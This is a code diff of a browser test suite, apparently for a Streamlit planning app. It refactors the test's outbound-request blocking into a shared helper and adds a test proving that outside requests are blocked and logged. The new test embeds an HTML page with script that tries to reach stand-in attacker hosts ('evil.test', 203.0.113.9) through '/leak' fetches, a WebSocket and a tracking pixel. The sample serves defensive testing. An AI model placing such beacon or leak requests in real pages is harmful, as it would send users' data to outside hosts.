@@ -11,9 +11,9 @@ Replies are paced at PACE_S, as a model would take, so the page can be seen mid-
 from __future__ import annotations
 
 import contextlib
+import functools
 import json
 import os
-import re
 import shutil
 import socket
 import statistics
@@ -22,24 +22,20 @@ import sys
 import time
 import urllib.request
 from pathlib import Path
-from urllib.parse import urlparse
 
 import pytest
 
 from core.store.runs import RunStore
+from tests.browser import CHROMIUM_ARGS, outside_attempts
 from tests.conftest import require
 
 ROOT = Path(__file__).resolve().parent.parent
 CHROMIUM = Path("/usr/bin/chromium")
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync"]
 TRANSCRIPT = Path(__file__).parent / "transcripts" / "locating_sql_planrag_replan_edit.json"
 EDITED_STEP = ('Compute for krakow and novgorod the value "SWE" would steer to "baltic_sea", counting the inland bonus '
                'of krakow')  # the re-plan's step 2 as the analyst rewrites it (the transcript follows it)
 PACE_S = 0.4
 WAIT_MS = 60_000  # a hang guard for the browser's waits, never a speed target
-LOCAL_HOSTS = {"127.0.0.1", "localhost"}
-NOT_LOCAL = re.compile(r"^(?!(?:https?|wss?)://(?:127\.0\.0\.1|localhost)[:/])")
 
 # `streamlit run` with replayed replies paced like a model's (test only: the product replays at once); the final
 # answer waits until the file PLANRAG_TEST_GATE/open exists (PLANRAG_TEST_GATE/waiting says it is waiting).
@@ -201,26 +197,47 @@ def app_server(launcher: str, env: dict, log_path: Path):
             process.wait(120)  # a hang guard: a loaded machine may take a while to stop a server
 
 
+PAGE_REACHING_OUT = """<!doctype html><img src="https://evil.test/pixel.png"><script>
+window.tries = Promise.all([
+  ...['http://203.0.113.9/leak', 'https://evil.test/leak', '/here'].map(u =>
+    fetch(u).then(() => 'reached ' + u, () => 'refused ' + u)),
+  new Promise(done => { const ws = new WebSocket('wss://evil.test/ws');
+                        ws.onopen = () => done('reached ws'); ws.onerror = () => done('refused ws'); })]);
+</script>"""
+
+
+def test_the_browser_reaches_nothing_outside_and_each_try_is_seen(chromium, tmp_path):
+    """What the tests' "nothing leaves localhost" rests on (tests/browser.py): a page's image, fetches (by name and
+    by address) and WebSocket to the outside are each refused and each seen; the page's own server is reached."""
+    import http.server
+    import threading
+
+    (tmp_path / "index.html").write_text(PAGE_REACHING_OUT)
+    (tmp_path / "here").write_text("ok")
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
+    handler.log_message = lambda *args: None
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as local:
+        threading.Thread(target=local.serve_forever, daemon=True).start()
+        context = chromium.new_context()
+        attempted = outside_attempts(context)
+        page = context.new_page()
+        page.goto(f"http://127.0.0.1:{local.server_port}/index.html")
+        tries = page.evaluate("window.tries")
+        page.wait_for_function("document.images[0].complete")
+        context.close()
+        local.shutdown()
+    assert tries == ["refused http://203.0.113.9/leak", "refused https://evil.test/leak", "reached /here",
+                     "refused ws"]
+    assert sorted(attempted) == ["http://203.0.113.9/leak", "https://evil.test/leak", "https://evil.test/pixel.png",
+                                 "wss://evil.test/ws"]
+
+
 def test_run_with_an_edited_replan_in_the_browser(chromium, server, tmp_path):
     from playwright.sync_api import expect
 
     url, process, home = server
     context = chromium.new_context(viewport={"width": 1600, "height": 1200})
-    attempted = []
-
-    def block(route):
-        attempted.append(route.request.url)
-        route.abort()
-
-    def local_sockets(ws):
-        if urlparse(ws.url).hostname in LOCAL_HOSTS:
-            ws.connect_to_server()
-        else:
-            attempted.append(ws.url)
-            ws.close()
-
-    context.route(NOT_LOCAL, block)  # matched in the browser driver: local requests are not slowed down
-    context.route_web_socket("**/*", local_sockets)
+    attempted = outside_attempts(context)
     context.add_init_script(OBSERVER)
     page = context.new_page()
     page.set_default_timeout(WAIT_MS)
@@ -265,7 +282,7 @@ def test_run_with_an_edited_replan_in_the_browser(chromium, server, tmp_path):
     # The run holds its final answer back until the browser has shown every event before it: shown as they happen.
     deadline = time.time() + 120  # guards against a hang only
     while not (tmp_path / "gate" / "waiting").exists() and time.time() < deadline and process.poll() is None:
-        page.wait_for_timeout(50)  # lets Playwright go on relaying the page's messages meanwhile
+        page.wait_for_timeout(50)  # lets Playwright go on taking the page's events meanwhile
     [so_far] = RunStore(home / "runs.sqlite").export()
     assert so_far["status"] == "running" and not any(e["kind"] == "final" for e in so_far["events"])
     shown = [n for n, e in enumerate(so_far["events"], 1) if n not in echoes_of(so_far["events"])]
